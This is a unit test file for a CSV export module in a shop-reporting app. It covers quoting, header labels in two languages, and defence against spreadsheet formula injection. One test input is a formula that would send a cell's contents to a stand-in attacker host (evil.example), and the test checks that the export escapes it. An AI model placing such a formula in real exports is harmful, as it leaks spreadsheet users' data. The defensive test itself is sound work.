import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '#lib/reports/csv.ts';
import type { AdsReport, OverviewReport, StaffChatReport, Totals } from '#lib/reports/types.ts';

const head = { shopId: 's', from: '2026-11-16', to: '2026-11-17', timezone: 'Asia/Ho_Chi_Minh', currency: 'VND', generatedAt: '2026-11-18T00:00:00.000Z' };
const zero: Totals = {
  customersReached: 0, customersCared: 0, newCustomers: 0, messagesReceived: 0, commentsReceived: 0, messageConversations: 0,
  ordersCreated: 0, ordersCancelled: 0, orders: 0, ordersDelivered: 0, ordersReturned: 0, revenue: 0, provisionalRevenue: 0,
  deliveries: 0, deliveredRevenue: 0, grossProfit: null, costCoverage: null, closeRate: null, pagesActivated: 0, channelsConnected: 0,
};

describe('csvField', () => {
  it('quotes only when needed and doubles quotes', () => {
    expect(csvField('Lan')).toBe('Lan');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(0.1235)).toBe('0.1235');
    expect(csvField(-1500000)).toBe('-1500000');
  });
});

describe('csvField against formula injection (OWASP)', () => {
  it('neutralises text a spreadsheet would run: a single quote first, and quoted', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")"`);
    expect(csvField('@SUM(1)')).toBe(`"'@SUM(1)"`);
    expect(csvField('+1')).toBe(`"'+1"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('\tcmd')).toBe(`"'\tcmd"`);
    expect(csvField('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
  });

  it('leaves numbers, and text that is a plain negative number, as numbers', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField('-5')).toBe('-5');
    expect(csvField('-1.5')).toBe('-1.5');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('lan@shop')).toBe('lan@shop');
  });
});

describe('toCsv', () => {
  it('writes the rows of a staff report with a BOM, CRLF and flattened shifts', () => {
    const report: StaffChatReport = {
      ...head,
      rows: [
        { staffId: 'lan', name: 'Nguyễn Thị Lan, "Chị Lan"', responseTimeMedianSeconds: 300, responseTimeAvgSeconds: 420, responseTimeP90Seconds: 600, messageReplies: 2, commentReplies: 0, conversationsAnswered: 2, missedConversations: 0, missedByShift: { morning: 0, afternoon: 0 }, slaMetRate: 0.5, slaMetRateByShift: { morning: 0.5, afternoon: null } },
        { staffId: 'unknown', name: 'Không xác định', responseTimeMedianSeconds: null, responseTimeAvgSeconds: null, responseTimeP90Seconds: null, messageReplies: 0, commentReplies: 0, conversationsAnswered: 0, missedConversations: 2, missedByShift: { morning: 2, afternoon: 0 }, slaMetRate: null, slaMetRateByShift: { morning: null, afternoon: null } },
      ],
      shifts: [],
    };
    expect(toCsv(report)).toBe(
      '\uFEFF' +
        'staffId,name,responseTimeMedianSeconds,responseTimeP90Seconds,responseTimeAvgSeconds,messageReplies,commentReplies,conversationsAnswered,missedConversations,missedByShift.morning,missedByShift.afternoon,slaMetRate,slaMetRateByShift.morning,slaMetRateByShift.afternoon\r\n' +
        'lan,"Nguyễn Thị Lan, ""Chị Lan""",300,600,420,2,0,2,0,0,0,0.5,0.5,\r\n' +
        'unknown,Không xác định,,,,0,0,0,2,2,0,,,\r\n',
    );
  });

  it('writes the series of an overview, unformatted numbers with a dot decimal', () => {
    const report: OverviewReport = {
      ...head,
      totals: zero,
      previous: zero,
      funnel: { reached: 0, cared: 0, ordered: 0, delivered: 0 },
      series: [{ date: '2026-11-16', ...zero, customersReached: 3, revenue: 1234567.5, closeRate: 0.3333, pagesActivated: 2, channelsConnected: 2 }],
      reachByHour: [],
      interactionsByHour: [],
      topStaff: [],
    };
    expect(toCsv(report)).toBe(
      '\uFEFF' +
        'date,customersReached,customersCared,newCustomers,messagesReceived,commentsReceived,messageConversations,ordersCreated,ordersCancelled,orders,ordersDelivered,ordersReturned,deliveries,deliveredRevenue,revenue,provisionalRevenue,grossProfit,costCoverage,closeRate,pagesActivated,channelsConnected\r\n' +
        '2026-11-16,3,0,0,0,0,0,0,0,0,0,0,0,0,1234567.5,0,,,0.3333,2,2\r\n',
    );
  });

  it('still writes a header when there is no row', () => {
    const report: AdsReport = { ...head, rows: [], campaigns: [] };
    expect(toCsv(report, 'ads')).toBe('\uFEFFadId,adName,campaignId,campaignName,conversationsStarted,customersReached,ordersCreated,orders,revenue,spend,roas,costPerOrder,costPerConversation\r\n');
    expect(toCsv({ ...head, rows: [] }, 'staff-sales')).toBe('\uFEFFstaffId,name,ordersCreated,orders,revenue,grossProfit,costCoverage,customersCared,conversionRate\r\n');
  });
});

describe('toCsv with lang', () => {
  it('writes the labels of the chosen language as headers, and the values unchanged', () => {
    const report: StaffChatReport = {
      ...head,
      rows: [{ staffId: 'lan', name: 'Lan', responseTimeMedianSeconds: 300, responseTimeP90Seconds: 600, responseTimeAvgSeconds: 420, messageReplies: 2, commentReplies: 0, conversationsAnswered: 2, missedConversations: 1, missedByShift: { morning: 1 }, slaMetRate: 0.5, slaMetRateByShift: { morning: 0.5 } }],
      shifts: [],
    };
    expect(toCsv(report, 'staff-chat', 'vi-VN')).toBe(
      '\uFEFF' +
        'Mã nhân viên,Nhân viên,Phản hồi trung vị,Phản hồi P90,Phản hồi TB,Trả lời tin nhắn,Trả lời bình luận,Hội thoại đã trả lời,Bỏ lỡ,Bỏ lỡ theo ca · Ca sáng,Trả lời đúng hạn,Đúng hạn theo ca · Ca sáng\r\n' +
        'lan,Lan,300,600,420,2,0,2,1,1,0.5,0.5\r\n',
    );
    expect(toCsv(report, 'staff-chat', 'en').split('\r\n')[0]).toBe('\uFEFFStaff id,Staff,Median response,P90 response,Avg response,Message replies,Comment replies,Conversations answered,Missed,Missed by shift · Morning,Answered within SLA,Within SLA by shift · Morning');
  });
});
